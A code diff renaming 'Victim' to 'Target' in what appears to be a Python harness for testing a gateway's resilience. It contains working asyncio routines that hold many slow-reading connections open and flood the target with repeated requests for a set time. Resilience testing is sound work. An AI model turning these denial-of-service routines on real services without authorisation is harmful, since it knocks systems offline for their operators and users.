@@ -23,7 +23,7 @@ _LARGE: Final = key_of(64 << 20)
 
 
 @dataclass(frozen=True, slots=True)
-class Victim:
+class Target:
     """Address of a gateway.
 
     Attributes:
@@ -37,10 +37,10 @@ class Victim:
     seconds: float
 
 
-Attack = Callable[[Victim], Awaitable[None]]
+Attack = Callable[[Target], Awaitable[None]]
 
 
-async def _connected(victim: Victim, receive_bytes: int | None) -> socket.socket:
+async def _connected(target: Target, receive_bytes: int | None) -> socket.socket:
     """Connect with a small receive buffer, so that a client that does not read blocks at once."""
     connection = socket.socket()
     try:
@@ -48,7 +48,7 @@ async def _connected(victim: Victim, receive_bytes: int | None) -> socket.socket
             connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
         connection.bind((SOURCE, 0))
         connection.setblocking(False)
-        address = victim.host, victim.port
+        address = target.host, target.port
         await asyncio.get_running_loop().sock_connect(connection, address)
     except BaseException:
         connection.close()
@@ -56,13 +56,13 @@ async def _connected(victim: Victim, receive_bytes: int | None) -> socket.socket
     return connection
 
 
-async def _hold(victim: Victim, connections: int, data: bytes, *, reads: bool = True) -> None:
+async def _hold(target: Target, connections: int, data: bytes, *, reads: bool = True) -> None:
     """Send the same data on many connections and hold them, reopening closed ones."""
 
     async def one() -> None:
         while True:
             with contextlib.suppress(OSError):
-                connection = await _connected(victim, None if reads else _PIECE)
+                connection = await _connected(target, None if reads else _PIECE)
                 reader, writer = await asyncio.open_connection(sock=connection, limit=_PIECE)
                 with contextlib.closing(writer):
                     writer.write(data)
@@ -73,17 +73,17 @@ async def _hold(victim: Victim, connections: int, data: bytes, *, reads: bool = 
                         pass
             await asyncio.sleep(0.2)  # the attack does not target accepting of connections
 
-    await _together(victim, one, connections)
+    await _together(target, one, connections)
 
 
-async def _repeat(victim: Victim, connections: int, data: bytes) -> None:
+async def _repeat(target: Target, connections: int, data: bytes) -> None:
     """Send a request repeatedly, each time on a new connection, and read the response."""
 
     async def one() -> None:
         while True:
             with contextlib.suppress(OSError):
                 reader, writer = await asyncio.open_connection(
-                    victim.host, victim.port, local_addr=(SOURCE, 0)
+                    target.host, target.port, local_addr=(SOURCE, 0)
                 )
                 with contextlib.closing(writer):
                     writer.write(data)
@@ -92,12 +92,12 @@ async def _repeat(victim: Victim, connections: int, data: bytes) -> None:
                         pass
             await asyncio.sleep(0.01)
 
-    await _together(victim, one, connections)
+    await _together(target, one, connections)
 
 
-async def _together(victim: Victim, one: Callable[[], Awaitable[None]], connections: int) -> None:
+async def _together(target: Target, one: Callable[[], Awaitable[None]], connections: int) -> None:
     with contextlib.suppress(TimeoutError):
-        async with asyncio.timeout(victim.seconds):
+        async with asyncio.timeout(target.seconds):
             await asyncio.gather(*(one() for _ in range(connections)))
 
 
@@ -109,16 +109,16 @@ def _request(method: str, path: str, body: bytes = b"", *fields: str, length: in
     return "\r\n".join([*lines, "", ""]).encode() + body
 
 
-async def _nothing(victim: Victim) -> None:
-    await asyncio.sleep(victim.seconds)
+async def _nothing(target: Target) -> None:
+    await asyncio.sleep(target.seconds)
 
 
 def _held(connections: int, data: bytes, *, reads: bool = True) -> Attack:
-    return lambda victim: _hold(victim, connections, data, reads=reads)
+    return lambda target: _hold(target, connections, data, reads=reads)
 
 
 def _repeated(connections: int, data: bytes) -> Attack:
-    return lambda victim: _repeat(victim, connections, data)
+    return lambda target: _repeat(target, connections, data)
 
 
 def _deletes(body: bytes) -> Attack:
@@ -180,10 +180,10 @@ ATTACKS: Final[dict[str, Attack]] = {
 """Attacks by name; the measuring client speaks TLS if the name ends in -tls."""
 
 
-def run(name: str, victim: Victim) -> None:
+def run(name: str, target: Target) -> None:
     """Attack until the time is over."""
 
     async def attack() -> None:
-        await ATTACKS[name](victim)
+        await ATTACKS[name](target)
 
     asyncio.run(attack())
